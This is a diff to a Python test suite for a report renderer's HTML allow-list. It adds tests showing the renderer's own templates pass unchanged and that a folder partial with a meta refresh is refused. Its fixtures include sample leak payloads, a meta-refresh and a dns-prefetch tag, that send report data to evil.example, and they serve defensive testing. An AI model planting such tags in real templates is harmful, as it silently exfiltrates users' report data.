@@ -13,6 +13,10 @@ from test_render_support import make_folder, rendered
 
 from interim.render import TemplateProblem
 
+ROOT = Path(__file__).resolve().parent.parent
+EXAMPLE = ROOT / "example-folder"
+HAZARDS = Path(__file__).resolve().parent / "hazards"
+
 LEAKS = {
     "meta-refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/?d={{ safety.summary|urlencode }}">',
     "dns-prefetch": '<link rel="dns-prefetch" href="//{{ header.name|urlencode }}.evil.example">',
@@ -277,3 +281,46 @@ def test_the_warning_on_the_command_line(base: Path, tmp_path: Path, run_cli: An
     assert result.exit_code == 0
     assert "templates/report.html.j2:1:1: warning IM921 " in result.stderr
     assert "templates/report.css" in result.stderr
+
+
+# -- interim's own templates: inside the allow-list by construction ---------------------------
+
+_FOLDERS = ["hostile", "ordinary", "example-folder", *sorted(p.name for p in HAZARDS.iterdir())]
+
+
+@pytest.mark.parametrize("which", _FOLDERS)
+@pytest.mark.parametrize("profile", ["full", "scores-only"])
+def test_own_templates_pass_the_allow_list_unchanged(
+    tmp_path: Path, which: str, profile: str
+) -> None:
+    """A page only interim's templates made is not parsed against the allow-list (the
+    speed issue); here it is, for hostile text, the example folder and every hazard folder:
+    nothing is refused and no link needed marking, so the page is byte for byte the same."""
+    from test_render_support import context_for
+
+    from interim.render.document import render_html
+
+    if which in ("hostile", "ordinary"):
+        root = make_folder(tmp_path, hostile=which == "hostile")
+    else:
+        root = EXAMPLE if which == "example-folder" else HAZARDS / which
+    context, _ = context_for(root, profile)
+    plain = render_html(context, root, cache=False)
+    checked = render_html(context, root, cache=False, check_own=True)
+    assert plain == checked
+
+
+def test_a_folder_template_is_still_checked(base: Path, tmp_path: Path) -> None:
+    """The parse is skipped only when no folder template had a part: a partial of the
+    folder's own, included by interim's report, is checked like a whole report."""
+    root = make_folder(tmp_path / "f")
+    partial = root / "templates" / "report" / "sections"
+    partial.mkdir(parents=True)
+    from interim.render.env import folder_loader
+
+    names = folder_loader(None).list_templates()
+    section = next(n for n in names if n.startswith("report/sections/") and "mood" in n)
+    (root / "templates" / section).write_text('<meta http-equiv="refresh" content="0">\n')
+    with pytest.raises(TemplateProblem, match="meta") as refused:
+        rendered(root, "html")
+    assert "refresh" in str(refused.value)
